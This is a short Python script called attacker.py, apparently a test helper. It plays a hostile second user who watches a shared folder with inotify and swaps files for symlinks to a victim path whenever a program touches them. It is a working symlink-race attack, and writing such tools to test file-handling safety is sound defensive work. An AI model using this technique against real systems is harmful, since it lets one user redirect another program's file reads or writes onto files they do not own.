"""Another user who swaps the files of a folder for links, the moment that a program touches them.

Run as root, by ``python attacker.py UID GID FOLDER VICTIM WHAT``; says a line once it looks, and never ends.
WHAT is ``new`` for the files that appear beside config.json, or ``edited`` for that itself.
"""

import ctypes
import os
import struct
import sys
from contextlib import suppress

_IN_MODIFY, _IN_OPEN, _IN_MOVED_TO, _IN_CREATE = 0x2, 0x20, 0x80, 0x100
_EVENT = struct.Struct("iIII")


def main() -> None:
    """Swap files for links to the victim's."""
    uid, gid, folder, victim, what = int(sys.argv[1]), int(sys.argv[2]), *sys.argv[3:]
    libc = ctypes.CDLL(None, use_errno=True)
    os.chdir(folder)
    os.setgroups([gid])
    os.setresgid(gid, gid, gid)
    os.setresuid(uid, uid, uid)
    watch = libc.inotify_init1(0)
    libc.inotify_add_watch(watch, b".", _IN_MODIFY | _IN_OPEN | _IN_MOVED_TO | _IN_CREATE)
    os.write(1, b"\n")
    while True:
        for name in _names(os.read(watch, 1 << 16)):
            if (name == "config.json") == (what == "edited"):
                _swap(name, victim)


def _names(events: bytes) -> list[str]:
    names, at = [], 0
    while at < len(events):
        *_, length = _EVENT.unpack_from(events, at)
        at += _EVENT.size
        names.append(os.fsdecode(events[at : at + length].rstrip(b"\0")))
        at += length
    return names


def _swap(name: str, victim: str) -> None:
    with suppress(OSError):
        os.symlink(victim, "link")  # noqa: PTH211 - pathlib takes longer
        os.rename("link", name)  # noqa: PTH104


if __name__ == "__main__":
    main()
